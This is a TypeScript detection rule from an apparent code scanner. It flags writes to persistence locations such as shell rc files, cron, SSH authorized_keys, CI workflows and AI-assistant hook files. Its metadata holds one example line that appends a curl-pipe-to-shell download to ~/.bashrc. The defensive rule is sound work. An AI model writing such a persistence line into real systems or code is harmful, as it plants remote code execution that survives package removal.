import { loadJsonData } from '../../../core/data.js';
import type { Severity } from '../../../core/types.js';
import type { JsRule } from '../engine.js';
import type { Node } from '../parse.js';
import { calleeName, FILE_WRITES, js, preview } from './helpers.js';

interface PersistenceEntry {
  pattern: string;
  kind: string;
  severity: Severity;
}

let compiled: Array<{ re: RegExp; kind: string; severity: Severity }> | undefined;

/** Persistence locations (data/persistence-paths.json) a path names, if any. */
export function matchPersistencePath(value: string): { kind: string; severity: Severity } | undefined {
  compiled ??= loadJsonData<{ paths: PersistenceEntry[] }>('persistence-paths.json').paths.map((p) => ({
    re: new RegExp(p.pattern, 'i'),
    kind: p.kind,
    severity: p.severity,
  }));
  if (value.length > 2048) return undefined;
  for (const p of compiled) if (p.re.test(value)) return p;
  return undefined;
}

const COPIES = new Set([
  'fs.copyFile',
  'fs.copyFileSync',
  'fs.renameSync',
  'fs.rename',
  'fs.symlinkSync',
  'fs-extra.copy',
]);

/**
 * Flags writes into places that run again later or grant access: shell rc files, cron,
 * systemd/LaunchAgents/Run keys, authorized_keys, CI workflows, VS Code tasks, AI-assistant hooks.
 */
export const persistenceWrite: JsRule = {
  meta: {
    ...js,
    id: 'JS-016',
    name: 'persistence-write',
    category: 'persistence',
    severity: 'high',
    confidence: 'medium',
    description:
      'Code writes to a location that runs again later or grants access: shell startup files, crontab, systemd/LaunchAgents/Windows Run keys, ~/.ssh/authorized_keys, .github/workflows, .vscode/tasks.json, AI-assistant hook files, or other installed packages.',
    rationale:
      'Persistence keeps a payload alive after the package is removed; workflow and editor/agent hook files spread it to CI and to every developer who opens the repository (Shai-Hulud, GlassWorm-style campaigns).',
    falsePositives:
      'Project scaffolders that generate workflows or editor settings for the user, shell-completion installers (usually behind an explicit CLI command, not at install).',
    example: "fs.appendFileSync(path.join(os.homedir(), '.bashrc'), 'curl -s http://192.0.2.1/x | sh\\n')",
    references: [
      'https://attack.mitre.org/tactics/TA0003/',
      'https://attack.mitre.org/techniques/T1546/004/',
    ],
  },
  create(ctx) {
    const seen = new Set<string>();
    const check = (node: Node) => {
      const name = calleeName(ctx, node);
      if (!name) return;
      const isWrite = FILE_WRITES.has(name);
      const isCopy = COPIES.has(name);
      if (!isWrite && !isCopy) return;
      const target = ctx.taint.pathString(node.arguments?.[isCopy ? 1 : 0]);
      if (!target) return;
      const hit = matchPersistencePath(target);
      if (!hit || seen.has(hit.kind)) return;
      seen.add(hit.kind);
      ctx.facts.capabilities.add('persistence');
      ctx.report({
        node,
        message: `Writes to ${hit.kind}: ${preview(target, 100)}.`,
        severity: hit.severity,
        evidence: { target, kind: hit.kind, via: name },
      });
    };
    return { CallExpression: check };
  },
};
